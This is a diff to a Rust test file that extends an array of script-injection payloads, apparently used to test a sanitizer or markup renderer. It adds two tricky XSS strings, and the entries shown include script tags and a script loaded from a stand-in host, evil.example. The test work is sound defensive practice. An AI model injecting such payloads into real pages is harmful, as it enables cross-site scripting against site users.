@@ -202,7 +202,9 @@ fn problems_have_places() {
 }
 
 /// Ways to smuggle a script into a page.
-const PAYLOADS: [&str; 44] = [
+const PAYLOADS: [&str; 46] = [
+    "&#xE006;1&#xE007; &#xE006;0&#xE007; \\&#xE010;",
+    "++\"<script>alert(1)</script>\"++ x\n\n*[x]: \" onclick=alert(1)",
     "<script>alert(1)</script>",
     "<ScRiPt\n>alert(1)</sCrIpT >",
     "<script src=//evil.example/x.js></script>",
